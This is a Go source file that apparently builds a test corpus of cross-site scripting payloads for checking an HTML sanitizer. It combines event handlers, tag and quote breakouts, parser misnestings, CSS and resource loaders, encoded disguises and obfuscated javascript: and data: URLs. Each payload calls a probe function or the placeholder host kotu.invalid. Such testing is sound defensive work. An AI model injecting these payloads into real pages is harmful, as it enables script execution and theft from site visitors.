package attack

import (
	"encoding/base64"
	"fmt"
	"iter"
	"strings"
)

// Armed is an attempt to have a reader's browser do something: to call f with its number, or
// to ask for that number at EvilHost.
type Armed struct {
	Number  int
	Text    string // as markup, or as words
	Address string // as an address of a link or a picture
}

// EvilHost is a host that no page may ask.
const EvilHost = "kotu.invalid"

// In the texts below, § stands for a script and ¤ for an address without its scheme.

// calls are spellings of a script; # stands for the number of the attempt.
var calls = []string{"f(#)", "f`#`", `self['f'](#)`, "[#].map(f)", `\u0066(#)`, "setTimeout(`f(#)`)", "Function`f(#)```", "eval('f(#)')", "f?.(#)", "(0,f)(#)"}

// Armory returns combinations of dangerous HTML with ways to hide it.
func Armory() []Armed {
	var all []Armed
	for _, family := range []iter.Seq[string]{
		handlers, breakouts, misnestings, polyglots, quoteBreakouts, scriptBreakouts, styles, resources, disguises,
	} {
		for text := range family {
			text = fill(text, len(all))
			all = append(all, Armed{len(all), text, "https://haber.example/" + text})
		}
	}
	for carrier, address := range addresses {
		address = fill(address, len(all))
		all = append(all, Armed{len(all), fill(strings.ReplaceAll(carrier, "%", address), len(all)), address})
	}
	return all
}

// fill puts a script and an address with the number into a template.
func fill(template string, number int) string {
	n := fmt.Sprint(number)
	call := strings.ReplaceAll(calls[number%len(calls)], "#", n)
	return strings.NewReplacer("§", call, "¤", EvilHost+"/"+n).Replace(template)
}

// turn returns element i of the list, which begins again after its end. Callers combine lists
// by dividing i differently for each, which varies them without all combinations.
func turn(list []string, i int) string { return list[i%len(list)] }

// handlers are elements with an event handler, in many spellings of a tag.
func handlers(yield func(string) bool) {
	elements := []string{
		"img src=x", "svg", "body", "details open", "input autofocus", "select autofocus", "textarea autofocus", "video src=x", "audio src=x",
		"iframe src=about:blank", "object data=x", "embed src=x", "link rel=stylesheet href=x", "style", "marquee", "button autofocus", "a href=#x tabindex=1 autofocus",
		"p contenteditable autofocus", "x-y tabindex=1 autofocus", "math", "table", "form", "keygen autofocus", "image src=x", "video><source src=x", "dialog open", "meter",
	}
	events := []string{
		"onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onpointerrawupdate", "onanimationstart", "onbeforetoggle", "onscrollend",
		"oncontentvisibilityautostatechange", "OnErRoR", "onwheel", "onsecuritypolicyviolation",
	}
	between := []string{" ", "\n", "\t", "/", "\f", " / ", "\r\n", " x ", " =x ", ` "x" `, " x=y "}
	quotes := []string{`=§`, `="§"`, `='§'`, " = §", "=\"\n§\"", `="&#32;§"`, `="javascript:§"`}
	ends := []string{">", "/>", " >", ">x", " x=", "><p>", "//", ">\x00", `></p>`}
	for i, element := range elements {
		for j, event := range events {
			n := i*len(events) + j
			if !yield("<" + element + turn(between, n) + event + turn(quotes, n/2) + turn(ends, n/3)) {
				return
			}
		}
	}
}

// cores run by themselves.
var cores = []string{
	"<script>§</script>", "<img src=x onerror=§>", "<svg onload=§>", `<iframe srcdoc="<script>parent.§</script>"></iframe>`,
	"<SCRIPT\n>§</SCRIPT\n>", "<svg><script>§</script></svg>", "<img src=//¤>", `<script src="//¤"></script>`,
}

// breakouts first end the element, attribute or string that they are in.
func breakouts(yield func(string) bool) {
	for _, end := range []string{
		"", `">`, "'>", "-->", "--!>", "</title>", "</script>", "</textarea>", "</style>", "</noscript>", "</template>", "]]>", "*/", "</svg>", "</math>", "</iframe>",
		"</xmp>", "</select>", "</a></h1>", "</p></div></main></body></html>", "\x00", `"}`, "\u2028", "`>", `\">`, "%>", "?>", "&quot;>", "</noembed>", "</plaintext>",
	} {
		for _, core := range cores {
			if !yield(end + core) {
				return
			}
		}
	}
}

// polyglots end several elements and attributes that they may be in.
func polyglots(yield func(string) bool) {
	ends := []string{"</title>", "</script>", "</textarea></style>", "\"'>", "--></xmp>", "</noscript></svg></math>"}
	for i, first := range ends {
		for j, second := range ends {
			for k := range 3 {
				if i != j && !yield(first+second+cores[(i+j+3*k)%len(cores)]) {
					return
				}
			}
		}
	}
}

// misnestings have foreign content, raw text and elements that a parser moves. Parsers read them
// in different ways.
func misnestings(yield func(string) bool) {
	outer := []string{
		"<svg>%", "<math>%", "<svg><foreignObject>%", "<math><mtext>%", `<math><annotation-xml encoding="text/html">%`, "<svg><desc>%", "<svg><title>%", "<table>%",
		"<select>%", "<form><math><mtext></form><form><mglyph>%", "<noscript>%", "<template>%", "<math><mtext><table><mglyph>%", "<svg></p>%", "<b><p><table><tr>%", "<option>%",
	}
	raw := []string{"style", "xmp", "noembed", "noframes", "noscript", "title", "textarea", "iframe", "script type=x", "!--", "listing"}
	for i, frame := range outer {
		for j, element := range raw {
			end, _, _ := strings.Cut("</"+element, " ")
			end += ">"
			if element == "!--" {
				end = "-->"
			}
			core := turn([]string{"<img src=x onerror=§>", "<script>§</script>", "<svg onload=§>"}, i+j)
			inner := fmt.Sprintf(`<%s><a title="%s%s">`, element, end, core)
			if element == "!--" {
				inner = fmt.Sprintf(`<!--<a title="%s%s">`, end, core)
			}
			if !yield(strings.ReplaceAll(frame, "%", inner)) {
				return
			}
		}
	}
}

// quoteBreakouts end the value of an attribute and add an attribute or element. % stands for the
// quote.
func quoteBreakouts(yield func(string) bool) {
	quotes := []string{
		`"`, "'", "`", "", "&quot;", "&#34;", "&#x22;", "&#39;", "&apos;", `\"`, `\x22`, "%22", "\uff02", "&amp;quot;", `"/`, "\"\x00", "\u02ba", `""`, `"'`, `'"`,
	}
	handlers := []string{
		` onfocus=§ autofocus tabindex=1 x=%`, ` onmouseover=§ x=%`, ` onload=§ x=%`, ` onerror=§ src=x x=%`, `><svg onload=§>%`, ` style=animation-name:x onanimationstart=§ x=%`,
		`onclick=§//%`,
	}
	for _, quote := range quotes {
		for _, handler := range handlers {
			if !yield("x" + quote + strings.ReplaceAll(handler, "%", quote)) {
				return
			}
		}
	}
}

// scriptBreakouts end a string in a script or in JSON.
func scriptBreakouts(yield func(string) bool) {
	for _, end := range []string{`"`, `'`, "`", `\"`, `\\"`, "\u2028", "\u2029", "\n", `\u0022`, "${§}", `</script>`, `</ScRiPt	>`, `<!--<script>`, `"]}</script>`, `\u003c/script\u003e`} {
		for _, core := range []string{";§//", "-§-", "+§+\"", "<script>§</script>", "<svg/onload=§>"} {
			if !yield(end + core) {
				return
			}
		}
	}
}

// styles load or run something from a style sheet.
func styles(yield func(string) bool) {
	for _, css := range []string{
		"@import '//¤';", "@import url(//¤);", "body{background:url(//¤)}", `body{background:\75rl(//¤)}`, "*{background:url(javascript:§)}", "*{width:expression(§)}", "*{behavior:url(//¤)}",
		"*{-moz-binding:url(//¤#x)}", "@font-face{font-family:x;src:url(//¤)}*{font-family:x}", "*{list-style:image-set('//¤' 1x)}", "*{cursor:url(//¤),auto}", "*::before{content:url(//¤)}",
		"*{border-image:url(//¤)}", "/*</style><script>§</script>*/", `*{mask:url(//¤)}`,
	} {
		declarations := strings.TrimSuffix(css[strings.IndexByte(css, '{')+1:], "}")
		for _, text := range []string{"<style>" + css + "</style>", "<svg><style>" + css, "<p style=\"" + declarations + "\">x</p>", `"style="` + declarations + `"x="`} {
			if !yield(text) {
				return
			}
		}
	}
}

// resources are elements that load, embed, redirect or send.
func resources(yield func(string) bool) {
	for _, element := range []string{
		"<iframe src=%>", "<frameset><frame src=%>", "<object data=%>", "<embed src=%>", "<meta http-equiv=refresh content=0;url=%>", "<meta http-equiv=refresh content=\"0 URL='%'\">",
		"<link rel=stylesheet href=%>", "<link rel=preload as=image href=%>", "<link rel=manifest href=%>", "<link rel=icon href=%>", "<base href=%><img src=x>", "<script src=%></script>",
		"<script type=module>import '%'</script>", "<img src=%>", "<img srcset='% 2x'>", "<picture><source srcset=%><img></picture>", "<video src=% autoplay>", "<video poster=%>", "<audio src=% autoplay>",
		"<video src=x><track default src=%>", "<svg><image href=% />", "<svg><use href=%#x />", "<svg><image xlink:href=% />", "<svg><filter id=x><feImage href=% /></filter><rect filter=url(#x) width=9 height=9>",
		"<input type=image src=%>", "<body background=%>", "<table background=%>", "<form action=%><button autofocus onfocus=this.form.submit()>", "<a href=x ping=% onfocus=this.click() autofocus tabindex=1>x",
		"<portal src=%>", "<fencedframe src=%>", "<link rel=modulepreload href=%>", "<template shadowrootmode=open><img src=%></template>", "<details open><img loading=eager src=%>",
	} {
		for _, scheme := range []string{"//", "https://", "http:\\\\", "hTTp:/"} {
			if !yield(strings.ReplaceAll(element, "%", scheme+"¤")) {
				return
			}
		}
	}
}

// disguises are markup in encodings: a program that decodes them makes the markup run.
func disguises(yield func(string) bool) {
	escaped := func(format string) func(string) string {
		return func(s string) string {
			var b strings.Builder
			for _, r := range s {
				if r == '§' || r == '¤' {
					b.WriteRune(r)
					continue
				}
				fmt.Fprintf(&b, format, r)
			}
			return b.String()
		}
	}
	replace := func(pairs ...string) func(string) string { return strings.NewReplacer(pairs...).Replace }
	entities := replace("<", "&lt;", ">", "&gt;")
	for _, disguise := range []func(string) string{
		entities, func(s string) string { return strings.ReplaceAll(entities(s), "&", "&amp;") }, escaped("&#%d;"), escaped("&#x%X;"), escaped("&#%07d"),
		replace("<", "%3C", ">", "%3E"), replace("<", "%253C", ">", "%253E"), replace("<", `\u003c`, ">", `\u003e`), replace("<", `\x3c`, ">", `\x3e`), replace("<", "\uff1c", ">", "\uff1e"),
		replace("<", "\xc0\xbc", ">", "\xc0\xbe"), replace("<", "+ADw-", ">", "+AD4-"), replace("<", "<\x00", ">", "\x00>"), replace("<", "<\u00ad", "=", "\u200b="), replace("<", "\ufeff<"),
		replace("<", "\\<"), replace("<", "<<"), func(s string) string { return "```html\n" + s + "\n```" }, func(s string) string { return "[x](javascript:§) ![x](//¤) " + s },
		func(s string) string { return "{{" + s + "}} <%= 1 %> ${§} #{§}" }, func(s string) string { return "<![CDATA[" + s + "]]>" }, func(s string) string { return "<!DOCTYPE x [<!ENTITY x '" + s + "'>]>&x;" },
		func(s string) string { return "<?xml-stylesheet href='//¤'?>" + s }, func(s string) string { return "<!-- " + s }, func(s string) string { return "<x title='>" + s }, func(s string) string { return "\u202e" + s + "\u2066" },
	} {
		for _, core := range cores {
			if !yield(disguise(core)) {
				return
			}
		}
	}
}

// addresses yields addresses that run a script or load something, each with markup that has the
// address for %.
func addresses(yield func(carrier, address string) bool) {
	// In base64 no number can be filled in, so the one such script calls f(0) whatever its own
	// number is.
	script := "javascript:§"
	list := []string{
		script, "JaVaScRiPt:§", " \x01\x0e javascript:§", "java\tscript:§", "java\nscript:§", "java\r\nscript:§", "javascript\t:§", "java\x00script:§", "\u00a0javascript:§", "\ufeffjavascript:§",
		"java&Tab;script:§", "java&NewLine;script:§", "javascript&colon;§", "javascript&#58;§", "javascript&#x3a§", "&#106;avascript:§", "&#x6A;avascript:§", "&#0000106avascript:§",
		"javascript://haber.example/%0a§", "javascript:'https://haber.example/';§", "javascript:/*https://*/§", "javascript:%66(1);§", "javascript:void(§)//.jpg", "javascript&amp;colon;§", "%6aavascript:§",
		"view-source:javascript:§", "feed:javascript:§", "jar:javascript:§", "vbscript:§", "livescript:§", "url:javascript:§", "x-javascript:§", "https:javascript:§", "//javascript:§",
		"data:text/html,<script>parent.§</script>", "data:text/html;base64," + base64.StdEncoding.EncodeToString([]byte("<script>f(0)</script>")), "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>",
		"data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>§</x:script>", "DATA:text/html,<svg onload=parent.§>", "blob:https://haber.example/1", "filesystem:https://haber.example/x",
		"//¤", `\\¤`, `/\¤`, "https:¤", "https:///¤", "http:/¤", `https:\\¤`, "///¤", "https://haber.example@¤", `https://haber.example\@¤`, "https://a:b@¤", "file:///etc/passwd", "about:blank#§", "intent://¤#Intent;end",
		`https://haber.example/"onmouseover="§`, `https://haber.example/'onerror='§`, "https://haber.example/><script>§</script>", `https://haber.example/"><svg onload=§>`, "https://haber.example/\x00\x01", "https://haber.example/ 2x, javascript:§ 3x",
	}
	carriers := []string{
		`<a href="%" autofocus onfocus=click()>x</a>`, `<a href="%">x</a>`, `<iframe src="%"></iframe>`, `<img src="%">`, `<svg><a xlink:href="%"><text>x</text></a></svg>`, `<form><button formaction="%">x</button></form>`,
		`<object data="%"></object>`, `<embed src="%">`, `<meta http-equiv=refresh content="0;url=%">`, `<math href="%">x</math>`, `<area href="%">`, `<base href="%"><a href="">x</a>`, `<a href=%>x</a>`, `<a href='%'>x</a>`,
		`<svg><a><animate attributeName=href values="%" /><text>x</text></a></svg>`,
	}
	for i, address := range list {
		for j := range 4 {
			if !yield(carriers[(i*4+j)%len(carriers)], address) {
				return
			}
		}
	}
}
